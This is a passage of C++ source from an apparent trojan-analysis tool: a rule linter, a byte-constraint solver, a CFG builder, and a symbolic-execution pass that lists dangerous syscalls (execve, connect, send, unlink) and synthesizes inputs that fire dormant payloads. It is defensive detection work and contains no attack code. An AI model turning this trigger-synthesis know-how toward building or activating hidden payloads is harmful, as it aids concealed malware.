    void checkRuleRhs(const RuleInfo &rule);
    void checkJoinOrder(const RuleInfo &rule);
    void checkProvenanceEvidence(const RuleInfo &rule);
    void checkShadowing();

    static bool valueEqual(const Sexpr &a, const Sexpr &b);
    static bool isVariable(const Sexpr &s)
    {
        return s.kind == Sexpr::Kind::Variable ||
               s.kind == Sexpr::Kind::MultiVar;
    }

    /** Does @p general match every fact @p specific matches? */
    static bool subsumes(const Pattern &general,
                         const Pattern &specific);

    std::map<std::string, std::set<std::string>> templates_;
    std::vector<RuleInfo> rules_;
    std::vector<LintIssue> issues_;
};

bool
Linter::valueEqual(const Sexpr &a, const Sexpr &b)
{
    if (a.kind != b.kind)
        return false;
    switch (a.kind) {
      case Sexpr::Kind::Integer:
        return a.intValue == b.intValue;
      case Sexpr::Kind::Float:
        return a.floatValue == b.floatValue;
      case Sexpr::Kind::List:
        if (a.items.size() != b.items.size())
            return false;
        for (size_t i = 0; i < a.items.size(); ++i)
            if (!valueEqual(a.items[i], b.items[i]))
                return false;
        return true;
      default:
        return a.text == b.text;
    }
}

void
Linter::collectTemplate(const Sexpr &form)
{
    if (form.items.size() < 2 || !form.items[1].isSymbol())
        return;
    std::set<std::string> &slots = templates_[form.items[1].text];
    for (size_t i = 2; i < form.items.size(); ++i) {
        const Sexpr &item = form.items[i];
        if (item.isList() &&
            (item.head() == "slot" || item.head() == "multislot") &&
            item.items.size() >= 2 && item.items[1].isSymbol())
            slots.insert(item.items[1].text);
    }
}

void
Linter::checkSlots(const Sexpr &pattern,
                   const std::string &construct)
{
    std::string tmpl = pattern.head();
    auto it = templates_.find(tmpl);
    if (it == templates_.end())
        return; // template not declared here: nothing to check
    for (size_t i = 1; i < pattern.items.size(); ++i) {
        const Sexpr &slot = pattern.items[i];
        if (!slot.isList() || slot.head().empty())
            continue;
        if (!it->second.count(slot.head()))
            error(construct, "slot '" + slot.head() +
                                 "' is not declared by template '" +
                                 tmpl + "'");
    }
}

void
Linter::collectPattern(const Sexpr &form, RuleInfo &rule,
                       bool positive)
{
    std::string head = form.head();
    if (head == "declare")
        return;
    if (head == "test") {
        rule.hasTestOrNot = true;
        return;
    }
    if (head == "not" || head == "and" || head == "or" ||
        head == "exists" || head == "logical") {
        if (head == "not")
            rule.hasTestOrNot = true;
        // Recurse. Patterns under `not` are not positive matches
        // (they must NOT appear), so they are excluded from the
        // subsumption set; their variables still count as bound
        // (lenient: avoids false unbound-variable errors).
        bool inner = positive && head != "not";
        for (size_t i = 1; i < form.items.size(); ++i)
            if (form.items[i].isList())
                collectPattern(form.items[i], rule, inner);
        return;
    }

    // A plain template pattern.
    checkSlots(form, rule.name);
    Pattern pat;
    pat.tmpl = head;
    std::set<std::string> pvars;
    for (size_t i = 1; i < form.items.size(); ++i) {
        const Sexpr &item = form.items[i];
        if (item.isList() && !item.head().empty()) {
            auto &values = pat.slots[item.head()];
            for (size_t j = 1; j < item.items.size(); ++j) {
                values.push_back(&item.items[j]);
                if (isVariable(item.items[j])) {
                    rule.bound.insert(item.items[j].text);
                    pvars.insert(item.items[j].text);
                }
            }
        } else if (isVariable(item)) {
            rule.bound.insert(item.text);
            pvars.insert(item.text);
        }
    }
    if (positive) {
        // A variable whose first binding sits inside a `not` never
        // escapes it: this positive use silently matches any value.
        for (const std::string &v : pvars) {
            auto neg = rule.negFirstBound.find(v);
            if (neg != rule.negFirstBound.end() &&
                !rule.posBound.count(v))
                warn(rule.name,
                     "variable ?" + v +
                         " is first bound inside a negated pattern"
                         " ('" +
                         neg->second +
                         "'); negated patterns export no bindings, so"
                         " this use matches any value");
        }
        rule.posBound.insert(pvars.begin(), pvars.end());
        rule.joinOrder.push_back({head, std::move(pvars)});
        rule.patterns.push_back(std::move(pat));
    } else {
        for (const std::string &v : pvars)
            if (!rule.posBound.count(v))
                rule.negFirstBound.emplace(v, head);
    }
}

void
Linter::collectRule(const Sexpr &form)
{
    RuleInfo rule;
    if (form.items.size() < 2 || !form.items[1].isSymbol()) {
        error("defrule", "defrule without a name");
        return;
    }
    rule.name = form.items[1].text;

    size_t i = 2;
    if (i < form.items.size() &&
        form.items[i].kind == Sexpr::Kind::String)
        ++i; // doc string

    // LHS until "=>".
    bool sawArrow = false;
    while (i < form.items.size()) {
        const Sexpr &item = form.items[i];
        if (item.isSymbol("=>")) {
            sawArrow = true;
            ++i;
            break;
        }
        if (item.kind == Sexpr::Kind::Variable &&
            i + 2 < form.items.size() &&
            form.items[i + 1].isSymbol("<-") &&
            form.items[i + 2].isList()) {
            rule.bound.insert(item.text);
            // The fact address is positively bound (it may appear in
            // a later `not` or on the RHS), but it is always fresh —
            // it cannot link the pattern to earlier joins, so it is
            // left out of the pattern's join variables.
            rule.posBound.insert(item.text);
            collectPattern(form.items[i + 2], rule, true);
            i += 3;
            continue;
        }
        if (item.isList())
            collectPattern(item, rule, true);
        ++i;
    }
    if (!sawArrow) {
        error(rule.name, "defrule has no '=>'");
        return;
    }
    for (; i < form.items.size(); ++i)
        rule.rhs.push_back(&form.items[i]);
    rules_.push_back(std::move(rule));
}

void
Linter::checkRuleRhs(const RuleInfo &rule)
{
    std::set<std::string> bound = rule.bound;
    std::set<std::string> rhsBound;

    // First sweep: every (bind ?x ...) anywhere on the RHS.
    std::vector<const Sexpr *> work(rule.rhs);
    while (!work.empty()) {
        const Sexpr *form = work.back();
        work.pop_back();
        if (!form->isList())
            continue;
        if (form->head() == "bind" && form->items.size() >= 2 &&
            isVariable(form->items[1])) {
            bound.insert(form->items[1].text);
            rhsBound.insert(form->items[1].text);
        }
        for (const Sexpr &item : form->items)
            if (item.isList())
                work.push_back(&item);
    }

    // Second sweep: uses; also slot-check (assert ...) forms.
    std::set<std::string> negWarned;
    work = rule.rhs;
    while (!work.empty()) {
        const Sexpr *form = work.back();
        work.pop_back();
        if (isVariable(*form)) {
            if (!bound.count(form->text))
                error(rule.name,
                      "variable ?" + form->text +
                          " is used on the RHS but never bound");
            else if (rule.negFirstBound.count(form->text) &&
                     !rule.posBound.count(form->text) &&
                     !rhsBound.count(form->text) &&
                     negWarned.insert(form->text).second)
                warn(rule.name,
                     "variable ?" + form->text +
                         " is only bound inside a negated pattern;"
                         " negated patterns export no bindings, so it"
                         " has no value on the RHS");
            continue;
        }
        if (!form->isList())
            continue;
        if (form->head() == "assert")
            for (size_t i = 1; i < form->items.size(); ++i)
                if (form->items[i].isList())
                    checkSlots(form->items[i], rule.name);
        for (const Sexpr &item : form->items)
            work.push_back(&item);
    }
}

void
Linter::checkJoinOrder(const RuleInfo &rule)
{
    // A positive pattern that shares no variable with everything
    // bound before it makes the beta network pair every earlier
    // partial match with every fact in its alpha memory. Harmless as
    // the *last* join — the cross product feeds the agenda directly,
    // and several shipped accounting rules end that way on purpose —
    // but expensive anywhere earlier, because every later join
    // multiplies it out again.
    std::set<std::string> seen;
    for (size_t i = 0; i < rule.joinOrder.size(); ++i) {
        const RuleInfo::JoinPattern &jp = rule.joinOrder[i];
        if (i > 0 && i + 1 < rule.joinOrder.size() && !seen.empty() &&
            !jp.vars.empty()) {
            bool linked = false;
            for (const std::string &v : jp.vars)
                if (seen.count(v)) {
                    linked = true;
                    break;
                }
            if (!linked)
                warn(rule.name,
                     "pattern '" + jp.tmpl +
                         "' shares no variable with the patterns"
                         " before it; the join forms a cross product"
                         " that every later join multiplies (reorder"
                         " the LHS or add a linking constraint)");
        }
        seen.insert(jp.vars.begin(), jp.vars.end());
    }
}

void
Linter::checkProvenanceEvidence(const RuleInfo &rule)
{
    // A High verdict should be explainable: the provenance graph
    // hangs the evidence chain off the firing rule's matched facts,
    // reading their bound slots (pids, resources, origins). A rule
    // that raises severity-3 without binding a single slot variable
    // in a positive pattern produces a warning node with nothing
    // under it. Literal severity only — a rule that computes or
    // forwards its severity (?w) is escalation plumbing, and the
    // evidence lives with whoever bound ?w.
    if (!rule.posBound.empty())
        return;
    std::vector<const Sexpr *> work(rule.rhs);
    while (!work.empty()) {
        const Sexpr *form = work.back();
        work.pop_back();
        if (!form->isList())
            continue;
        if (form->head() == "hth-warn" && form->items.size() >= 2 &&
            form->items[1].kind == Sexpr::Kind::Integer &&
            form->items[1].intValue == 3) {
            warn(rule.name,
                 "rule raises a High-severity warning but binds no"
                 " fact slot in any positive pattern; the verdict's"
                 " provenance graph will carry no evidence (bind a"
                 " slot variable so --explain can walk the chain)");
            return;
        }
        for (const Sexpr &item : form->items)
            work.push_back(&item);
    }
}

bool
Linter::subsumes(const Pattern &general, const Pattern &specific)
{
    if (general.tmpl != specific.tmpl)
        return false;
    for (const auto &[slot, values] : general.slots) {
        bool allVars = true;
        for (const Sexpr *v : values)
            if (!isVariable(*v))
                allVars = false;
        if (allVars)
            continue; // a pure-variable constraint matches anything
        auto it = specific.slots.find(slot);
        if (it == specific.slots.end())
            return false; // general constrains, specific does not
        if (it->second.size() != values.size())
            return false;
        for (size_t i = 0; i < values.size(); ++i)
            if (!valueEqual(*values[i], *it->second[i]))
                return false;
    }
    return true;
}

void
Linter::checkShadowing()
{
    // ruleCovers(B, A): every pattern of B subsumes some pattern of
    // A, i.e. whenever A's LHS matches, so does B's.
    auto ruleCovers = [](const RuleInfo &b, const RuleInfo &a) {
        if (b.patterns.empty())
            return false;
        for (const Pattern &pb : b.patterns) {
            bool found = false;
            for (const Pattern &pa : a.patterns)
                if (subsumes(pb, pa)) {
                    found = true;
                    break;
                }
            if (!found)
                return false;
        }
        return true;
    };

    for (const RuleInfo &a : rules_) {
        for (const RuleInfo &b : rules_) {
            if (&a == &b || b.hasTestOrNot)
                continue;
            // Strictly more general: B covers A but not vice versa.
            if (ruleCovers(b, a) && !ruleCovers(a, b))
                warn(a.name, "rule is shadowed by strictly more "
                             "general rule '" +
                                 b.name + "'");
        }
    }
}

std::vector<LintIssue>
Linter::lint(const std::string &source)
{
    std::vector<Sexpr> forms;
    try {
        forms = clips::parseSexprs(source);
    } catch (const std::exception &e) {
        error("<input>", std::string("parse error: ") + e.what());
        return std::move(issues_);
    }

    // Pass 1: declarations.
    for (const Sexpr &form : forms)
        if (form.head() == "deftemplate")
            collectTemplate(form);

    // Pass 2: rules and top-level asserts.
    for (const Sexpr &form : forms) {
        if (form.head() == "defrule")
            collectRule(form);
        else if (form.head() == "assert")
            for (size_t i = 1; i < form.items.size(); ++i)
                if (form.items[i].isList())
                    checkSlots(form.items[i], "assert");
    }

    for (const RuleInfo &rule : rules_) {
        checkRuleRhs(rule);
        checkJoinOrder(rule);
        checkProvenanceEvidence(rule);
    }
    checkShadowing();
    return std::move(issues_);
}

} // namespace

std::vector<LintIssue>
lintPolicy(const std::string &source)
{
    return Linter().lint(source);
}

bool
hasLintErrors(const std::vector<LintIssue> &issues)
{
    for (const LintIssue &issue : issues)
        if (issue.isError())
            return true;
    return false;
}

std::string
lintToString(const std::vector<LintIssue> &issues)
{
    std::ostringstream os;
    for (const LintIssue &issue : issues)
        os << (issue.isError() ? "error" : "warning") << " ["
           << issue.construct << "]: " << issue.message << "\n";
    return os.str();
}

} // namespace hth::analysis
