/**
 * @file
 * Guard-predicate constraints over single input bytes, and a small
 * brute-force evaluator that synthesizes witness bytes.
 *
 * The trigger-synthesis pass (Trigger.cc) models each byte loaded
 * from an input buffer (read / recv) as a symbolic slot and tracks
 * the chain of arithmetic applied to it (xor/and/or with constants,
 * add/sub/mul, shifts). A conditional branch whose flags depend on
 * such an expression contributes one Constraint; the evaluator
 * solves the accumulated system per slot by exhaustive search over
 * the 256 byte values, mirroring the VM's 32-bit semantics exactly
 * (Machine.cc: Jz/Jnz test equality, Jl/Jge test the sign of the
 * 32-bit subtraction).
 */

#ifndef HTH_ANALYSIS_CONSTRAINT_HH
#define HTH_ANALYSIS_CONSTRAINT_HH

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

namespace hth::analysis
{

/** One arithmetic step applied to an input byte. */
struct SymOp
{
    enum K
    {
        Xor,
        And,
        Or,
        Add,
        Sub,
        Mul,
        Shl,
        Shr,
    };
    K k = Xor;
    uint32_t imm = 0;

    bool operator==(const SymOp &) const = default;
};

/** An input byte with a chain of constant operations applied. */
struct SymExpr
{
    int slot = -1;              //!< input-slot id (Trigger.cc)
    std::vector<SymOp> ops;

    /** Evaluate the chain on byte value @p v (32-bit arithmetic). */
    uint32_t apply(uint32_t v) const;

    bool operator==(const SymExpr &) const = default;
};

/** The comparison a conditional branch performs on an expression. */
enum class CmpOp
{
    Eq,     //!< Jz taken
    Ne,     //!< Jnz taken
    Lt,     //!< Jl taken: (int32_t)(lhs - rhs) < 0
    Ge,     //!< Jge taken
};

const char *cmpOpName(CmpOp op);

/** One path constraint: `expr CMP rhs` must hold. */
struct Constraint
{
    SymExpr expr;
    CmpOp op = CmpOp::Eq;
    uint32_t rhs = 0;

    bool holds(uint32_t byte_value) const;
    std::string toString() const;
};

/** Per-slot solution of a constraint system. */
struct SlotSolution
{
    int slot = -1;
    std::optional<uint8_t> value;   //!< smallest satisfying byte
    int satisfyingCount = 0;        //!< of the 256 byte values
};

/** Outcome of solving a whole constraint system. */
struct SolveResult
{
    bool satisfiable = false;

    /**
     * True when the system is satisfiable *and* at least one slot is
     * selective (few satisfying values): a guard that admits almost
     * every input — a bare disequality, say — is not a trigger.
     */
    bool selective = false;

    std::vector<SlotSolution> slots;    //!< sorted by slot id
    uint64_t iterations = 0;            //!< evaluator work performed
};

/**
 * Solve @p constraints by brute force, one slot at a time (slots are
 * independent: each expression reads a single input byte). A slot
 * counts as selective when at most @p selectivity_max of its 256
 * byte values satisfy its constraints.
 */
SolveResult solveConstraints(const std::vector<Constraint> &constraints,
                             int selectivity_max = 16);

} // namespace hth::analysis

#endif // HTH_ANALYSIS_CONSTRAINT_HH
