/**
 * @file
 * Trigger-condition synthesis for dormant payloads.
 *
 * A trojan that stays quiet until it sees a magic input defeats
 * dynamic monitoring: the dangerous path never executes under benign
 * load. This pass explores the image path-sensitively from the entry
 * point, modelling each byte loaded from an input buffer (read from
 * stdin, recv from a socket) as a symbolic slot. Every conditional
 * branch whose flags depend on such a byte contributes a guard
 * predicate to the current path; when the path reaches a dangerous
 * syscall (execve / connect / send / write to a non-std descriptor /
 * creat / unlink / chmod), the accumulated predicate system — the
 * realized backward slice from the payload to its dominating guards
 * — is handed to the constraint evaluator (Constraint.hh). If it is
 * satisfiable and selective, the pass emits a trigger hypothesis
 * carrying concrete witness bytes that drive the guest down the
 * dormant path.
 *
 * Complementing the path exploration, block dominators are computed
 * so each hypothesis also names the conditional-branch sites that
 * dominate its payload (the static slice anchors).
 */

#ifndef HTH_ANALYSIS_TRIGGER_HH
#define HTH_ANALYSIS_TRIGGER_HH

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/Cfg.hh"
#include "analysis/Constraint.hh"

namespace hth::analysis
{

/** A synthesized trigger for one dormant payload site. */
struct TriggerHypothesis
{
    uint32_t address = 0;       //!< payload syscall site
    std::string syscall;        //!< "SYS_execve", ...
    int warn = 0;               //!< 3 exec/connect, 2 otherwise
    std::string origin;         //!< "stdin" or "socket"
    std::vector<uint8_t> witness;   //!< bytes that fire the trigger
    std::vector<std::string> predicates;    //!< guard constraints
    std::vector<uint32_t> sliceGuards;  //!< dominating branch sites
    std::string resource;       //!< payload argument, if recovered
};

/** Work counters + results of the synthesis pass. */
struct TriggerResult
{
    std::vector<TriggerHypothesis> hypotheses;  //!< sorted by address
    uint64_t pathsExplored = 0;
    uint64_t solverIterations = 0;
};

/** Explore @p cfg and synthesize trigger inputs for guarded
 * dangerous syscalls. */
TriggerResult synthesizeTriggers(const Cfg &cfg);

} // namespace hth::analysis

#endif // HTH_ANALYSIS_TRIGGER_HH
