/**
 * @file
 * Static control-flow graph over an unloaded vm::Image.
 *
 * The run-time monitor only sees code the guest executes; the static
 * pre-screening pass decodes the whole `.text` section up front. The
 * CFG builder resolves the image's relocations at base 0 (so every
 * branch immediate is an image-relative address), splits the text
 * into basic blocks, wires successor/predecessor edges for direct
 * transfers, records the call graph (direct calls, `CallSym` imports
 * and `Native` routines) and marks which blocks are reachable from
 * the entry point.
 */

#ifndef HTH_ANALYSIS_CFG_HH
#define HTH_ANALYSIS_CFG_HH

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "vm/Image.hh"

namespace hth::analysis
{

/** A maximal straight-line run of instructions. */
struct BasicBlock
{
    uint32_t start = 0;     //!< image-relative address of first insn
    uint32_t end = 0;       //!< exclusive image-relative end address

    /** Image-relative start addresses of successor blocks. Direct
     * call targets are included so reachability follows calls. */
    std::vector<uint32_t> succs;
    std::vector<uint32_t> preds;

    bool reachable = false;

    size_t
    instructionCount() const
    {
        return (end - start) / vm::INSN_SIZE;
    }
};

/** A direct call site (`Call`) inside the image. */
struct CallEdge
{
    uint32_t site = 0;      //!< address of the Call instruction
    uint32_t target = 0;    //!< image-relative callee address
};

/** A `CallSym` (import) or `Native` (library) call site. */
struct ExternCall
{
    uint32_t site = 0;
    std::string name;       //!< imported symbol / native routine
    bool native = false;
};

/** The static CFG of one image. */
struct Cfg
{
    const vm::Image *image = nullptr;

    /** Text with relocations resolved at base 0: every relocated
     * immediate is the image-relative address of its symbol. */
    std::vector<vm::Instruction> text;

    /** Indices into text whose imm came from a relocation (i.e. is a
     * symbol address rather than a plain constant). */
    std::set<uint32_t> relocatedIndices;

    /** Blocks keyed by start address. */
    std::map<uint32_t, BasicBlock> blocks;

    std::vector<CallEdge> calls;
    std::vector<ExternCall> externCalls;

    /** Sites of direct branches whose target lies outside .text. */
    std::vector<uint32_t> jumpsOutOfText;

    uint32_t
    textSize() const
    {
        return (uint32_t)text.size() * vm::INSN_SIZE;
    }

    /** The block containing @p addr, or nullptr. */
    const BasicBlock *blockAt(uint32_t addr) const;

    /** The instruction at image-relative @p addr. */
    const vm::Instruction &
    insnAt(uint32_t addr) const
    {
        return text[addr / vm::INSN_SIZE];
    }

    size_t reachableBlocks() const;

    /** Block starts reachable from the block containing @p addr,
     * following successor (and therefore direct-call) edges. */
    std::set<uint32_t> reachableFrom(uint32_t addr) const;
};

/** Decode @p image into its static CFG. */
Cfg buildCfg(const vm::Image &image);

} // namespace hth::analysis

#endif // HTH_ANALYSIS_CFG_HH
