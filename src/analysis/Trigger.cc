#include "analysis/Trigger.hh"

#include <algorithm>
#include <map>
#include <optional>
#include <set>
#include <sstream>
#include <unordered_map>

#include "os/Syscalls.hh"

namespace hth::analysis
{

using vm::Instruction;
using vm::INSN_SIZE;
using vm::Opcode;
using vm::Reg;

namespace
{

/** Symbolic value: constant, address, or input-byte expression. */
struct SymVal
{
    enum K
    {
        Unknown,
        Const,
        DataAddr,
        InputByte,  //!< expr over input slot `slot`
    };
    K k = Unknown;
    uint32_t v = 0;
    int slot = -1;
    std::vector<SymOp> ops;

    bool isAddr() const { return k == Const || k == DataAddr; }
    bool concrete() const { return k == Const || k == DataAddr; }
};

SymVal
unknownS()
{
    return {};
}

struct SymFlags
{
    bool valid = false;
    SymVal lhs, rhs;
};

/** An input buffer discovered on the current path. */
struct SymRegion
{
    uint32_t start = 0;
    uint32_t end = 0;
    bool socket = false;
};

/** Where an input slot came from. */
struct SlotOrigin
{
    bool socket = false;
    uint32_t offset = 0;    //!< byte position in the input stream
};

struct PathState
{
    std::array<SymVal, vm::NUM_REGS> regs{};
    std::map<uint32_t, SymVal> mem;
    SymFlags flags;
    std::vector<Constraint> constraints;
    std::vector<SymRegion> regions;
    std::vector<uint32_t> retStack;
    /** Per-block visit counts, indexed by dense block id (memcpy on
     * fork instead of a node-based map copy). */
    std::vector<uint8_t> visits;
};

class TriggerSearch
{
  public:
    explicit TriggerSearch(const Cfg &cfg)
        : cfg_(cfg), image_(*cfg.image),
          blockIdxByPc_(cfg.text.size(), NO_BLOCK)
    {
        uint32_t idx = 0;
        for (const auto &[start, bb] : cfg_.blocks)
            blockIdxByPc_[start / vm::INSN_SIZE] = idx++;
        nblocks_ = idx;
    }

    TriggerResult run();

  private:
    void explore(uint32_t pc, PathState s, int depth);
    void applyInsn(PathState &s, const Instruction &insn,
                   uint32_t addr);
    bool modelSyscall(PathState &s, uint32_t addr);
    void payloadHit(const PathState &s, uint32_t addr,
                    const char *syscall, int warn,
                    std::string resource);
    int slotFor(PathState &s, uint32_t addr);
    SymVal loadFrom(PathState &s, uint32_t at, bool byteWide);
    std::string dataStr(uint32_t addr) const;
    void computeDominators();
    std::vector<uint32_t> sliceGuardsFor(uint32_t addr) const;

    const Cfg &cfg_;
    const vm::Image &image_;

    std::map<std::pair<bool, uint32_t>, int> slotIds_;
    std::vector<SlotOrigin> slotOrigins_;

    std::map<uint32_t, TriggerHypothesis> hyps_;
    std::set<uint32_t> unsatisfied_;    //!< sites seen but unsolved
    uint64_t paths_ = 0;
    uint64_t steps_ = 0;
    uint64_t solverIterations_ = 0;

    bool domsComputed_ = false;
    std::unordered_map<uint32_t, uint32_t> idom_;
    std::unordered_map<uint32_t, size_t> rpoNum_;

    static constexpr uint32_t NO_BLOCK = UINT32_MAX;
    /** pc/INSN_SIZE -> dense block id, NO_BLOCK between starts. */
    std::vector<uint32_t> blockIdxByPc_;
    uint32_t nblocks_ = 0;
};

constexpr uint64_t MAX_STEPS = 400000;
constexpr int MAX_BLOCK_VISITS = 4;
constexpr int MAX_CALL_DEPTH = 16;
constexpr int MAX_FORK_DEPTH = 48;
constexpr uint64_t MAX_PATHS = 2048;

std::string
TriggerSearch::dataStr(uint32_t addr) const
{
    uint32_t base = image_.dataOffset();
    if (addr < base || addr >= base + image_.data.size())
        return "";
    std::string out;
    for (uint32_t i = addr - base;
         i < image_.data.size() && out.size() < 64; ++i) {
        char c = (char)image_.data[i];
        if (c == '\0')
            break;
        out += (c >= 0x20 && c < 0x7f) ? c : '.';
    }
    return out;
}

int
TriggerSearch::slotFor(PathState &s, uint32_t addr)
{
    for (const SymRegion &r : s.regions) {
        if (addr < r.start || addr >= r.end)
            continue;
        auto key = std::make_pair(r.socket, addr - r.start);
        auto it = slotIds_.find(key);
        if (it != slotIds_.end())
            return it->second;
        int id = (int)slotOrigins_.size();
        slotIds_.emplace(key, id);
        slotOrigins_.push_back({r.socket, addr - r.start});
        return id;
    }
    return -1;
}

SymVal
TriggerSearch::loadFrom(PathState &s, uint32_t at, bool byteWide)
{
    auto it = s.mem.find(at);
    if (it != s.mem.end())
        return it->second;
    if (byteWide) {
        int slot = slotFor(s, at);
        if (slot >= 0) {
            SymVal v;
            v.k = SymVal::InputByte;
            v.slot = slot;
            return v;
        }
    } else {
        // Word-wide loads from input buffers are not modelled as
        // symbolic; guards in the corpus compare single bytes.
        for (const SymRegion &r : s.regions)
            if (at < r.end && r.start < at + 4)
                return unknownS();
    }
    uint32_t base = image_.dataOffset();
    if (byteWide && at >= base && at < base + image_.data.size())
        return {SymVal::Const, image_.data[at - base], -1, {}};
    if (!byteWide && at >= base &&
        at + 4 <= base + image_.data.size()) {
        uint32_t w = 0;
        for (int i = 3; i >= 0; --i)
            w = (w << 8) | image_.data[at - base + i];
        return {SymVal::Const, w, -1, {}};
    }
    return unknownS();
}

void
TriggerSearch::applyInsn(PathState &s, const Instruction &insn,
                         uint32_t addr)
{
    uint32_t idx = addr / INSN_SIZE;
    bool relocated = cfg_.relocatedIndices.count(idx) != 0;
    SymVal a = s.regs[(size_t)insn.r1];
    SymVal b = s.regs[(size_t)insn.r2];
    auto set = [&](Reg r, SymVal v) { s.regs[(size_t)r] = v; };

    // Apply a constant operation to an input-byte expression.
    auto chain = [](const SymVal &e, SymOp::K k,
                    uint32_t imm) -> SymVal {
        SymVal out = e;
        out.ops.push_back({k, imm});
        return out;
    };
    // Binary op where one side may be a symbolic byte and the other
    // a constant; `commutes` says const-op-expr equals expr-op-const.
    auto binOp = [&](SymOp::K k, auto fold,
                     bool commutes) -> SymVal {
        if (a.k == SymVal::Const && b.k == SymVal::Const)
            return {SymVal::Const, fold(a.v, b.v), -1, {}};
        if (a.k == SymVal::InputByte && b.k == SymVal::Const)
            return chain(a, k, b.v);
        if (commutes && a.k == SymVal::Const &&
            b.k == SymVal::InputByte)
            return chain(b, k, a.v);
        return unknownS();
    };

    switch (insn.op) {
    case Opcode::MovRR:
        set(insn.r1, b);
        break;
    case Opcode::MovRI:
        set(insn.r1, {relocated ? SymVal::DataAddr : SymVal::Const,
                      (uint32_t)insn.imm, -1, {}});
        break;
    case Opcode::Lea:
        if (b.isAddr())
            set(insn.r1, {b.k, b.v + (uint32_t)insn.imm, -1, {}});
        else
            set(insn.r1, unknownS());
        break;
    case Opcode::Load:
    case Opcode::LoadB:
        if (b.isAddr())
            set(insn.r1, loadFrom(s, b.v + (uint32_t)insn.imm,
                                  insn.op == Opcode::LoadB));
        else
            set(insn.r1, unknownS());
        break;
    case Opcode::Store:
    case Opcode::StoreB:
        if (b.isAddr())
            s.mem[b.v + (uint32_t)insn.imm] = a;
        break;
    case Opcode::Push:
    case Opcode::PushI:
        break;
    case Opcode::Pop:
        set(insn.r1, unknownS());
        break;
    case Opcode::Add:
        if (a.k == SymVal::DataAddr && b.k == SymVal::Const)
            set(insn.r1, {SymVal::DataAddr, a.v + b.v, -1, {}});
        else if (a.k == SymVal::Const && b.k == SymVal::DataAddr)
            set(insn.r1, {SymVal::DataAddr, a.v + b.v, -1, {}});
        else
            set(insn.r1,
                binOp(SymOp::Add,
                      [](uint32_t x, uint32_t y) { return x + y; },
                      true));
        break;
    case Opcode::AddI:
        if (a.isAddr())
            set(insn.r1, {a.k, a.v + (uint32_t)insn.imm, -1, {}});
        else if (a.k == SymVal::InputByte)
            set(insn.r1, chain(a, SymOp::Add, (uint32_t)insn.imm));
        else
            set(insn.r1, unknownS());
        break;
    case Opcode::Sub:
        set(insn.r1,
            binOp(SymOp::Sub,
                  [](uint32_t x, uint32_t y) { return x - y; },
                  false));
        break;
    case Opcode::And:
        set(insn.r1,
            binOp(SymOp::And,
                  [](uint32_t x, uint32_t y) { return x & y; },
                  true));
        break;
    case Opcode::Or:
        set(insn.r1,
            binOp(SymOp::Or,
                  [](uint32_t x, uint32_t y) { return x | y; },
                  true));
        break;
    case Opcode::Xor:
        if (insn.r1 == insn.r2)
            set(insn.r1, {SymVal::Const, 0, -1, {}});
        else
            set(insn.r1,
                binOp(SymOp::Xor,
                      [](uint32_t x, uint32_t y) { return x ^ y; },
                      true));
        break;
    case Opcode::Mul:
        set(insn.r1,
            binOp(SymOp::Mul,
                  [](uint32_t x, uint32_t y) { return x * y; },
                  true));
        break;
    case Opcode::Shl:
        if (a.k == SymVal::Const)
            set(insn.r1, {SymVal::Const, a.v << (insn.imm & 31), -1,
                          {}});
        else if (a.k == SymVal::InputByte)
            set(insn.r1, chain(a, SymOp::Shl, (uint32_t)insn.imm));
        else
            set(insn.r1, unknownS());
        break;
    case Opcode::Shr:
        if (a.k == SymVal::Const)
            set(insn.r1, {SymVal::Const, a.v >> (insn.imm & 31), -1,
                          {}});
        else if (a.k == SymVal::InputByte)
            set(insn.r1, chain(a, SymOp::Shr, (uint32_t)insn.imm));
        else
            set(insn.r1, unknownS());
        break;
    case Opcode::CpuId:
        set(Reg::Eax, unknownS());
        set(Reg::Ebx, unknownS());
        set(Reg::Ecx, unknownS());
        set(Reg::Edx, unknownS());
        break;
    case Opcode::Native:
        set(Reg::Eax, unknownS());
        set(Reg::Ecx, unknownS());
        set(Reg::Edx, unknownS());
        break;
    default:
        break;
    }
}

void
TriggerSearch::payloadHit(const PathState &s, uint32_t addr,
                          const char *syscall, int warn,
                          std::string resource)
{
    if (s.constraints.empty())
        return; // unconditional: not a *triggered* payload
    if (hyps_.count(addr))
        return;

    SolveResult sol = solveConstraints(s.constraints);
    solverIterations_ += sol.iterations;
    if (!sol.satisfiable || !sol.selective) {
        unsatisfied_.insert(addr);
        return;
    }

    TriggerHypothesis h;
    h.address = addr;
    h.syscall = syscall;
    h.warn = warn;
    h.resource = std::move(resource);
    for (const Constraint &c : s.constraints)
        h.predicates.push_back(c.toString());
    // Dominators are only needed to anchor a slice, and most images
    // never produce a hypothesis — compute them on first use.
    if (!domsComputed_) {
        computeDominators();
        domsComputed_ = true;
    }
    h.sliceGuards = sliceGuardsFor(addr);

    // Build the witness over the origin stream of the constrained
    // slots; mixed-origin systems use the first slot's stream.
    bool socket = false;
    bool haveOrigin = false;
    uint32_t maxOff = 0;
    for (const SlotSolution &ss : sol.slots) {
        const SlotOrigin &o = slotOrigins_[(size_t)ss.slot];
        if (!haveOrigin) {
            socket = o.socket;
            haveOrigin = true;
        }
        if (o.socket == socket)
            maxOff = std::max(maxOff, o.offset);
    }
    h.origin = socket ? "socket" : "stdin";
    h.witness.assign(maxOff + 1, 0x41);     // 'A' filler
    for (const SlotSolution &ss : sol.slots) {
        const SlotOrigin &o = slotOrigins_[(size_t)ss.slot];
        if (o.socket == socket && ss.value)
            h.witness[o.offset] = *ss.value;
    }
    hyps_.emplace(addr, std::move(h));
}

/** Interpret one syscall; true when the path ends (exit). */
bool
TriggerSearch::modelSyscall(PathState &s, uint32_t addr)
{
    SymVal nr = s.regs[(size_t)Reg::Eax];
    SymVal ebx = s.regs[(size_t)Reg::Ebx];
    SymVal ecx = s.regs[(size_t)Reg::Ecx];
    SymVal edx = s.regs[(size_t)Reg::Edx];
    auto setEax = [&](SymVal v) { s.regs[(size_t)Reg::Eax] = v; };

    if (nr.k != SymVal::Const) {
        setEax(unknownS());
        return false;
    }

    switch (nr.v) {
    case os::NR_exit:
        return true;
    case os::NR_read:
        if (ebx.k == SymVal::Const && ebx.v == 0 && ecx.isAddr()) {
            uint32_t n = edx.k == SymVal::Const
                             ? std::min<uint32_t>(edx.v, 4096)
                             : 64;
            s.regions.push_back({ecx.v, ecx.v + n, false});
        }
        setEax(unknownS());
        return false;
    case os::NR_execve:
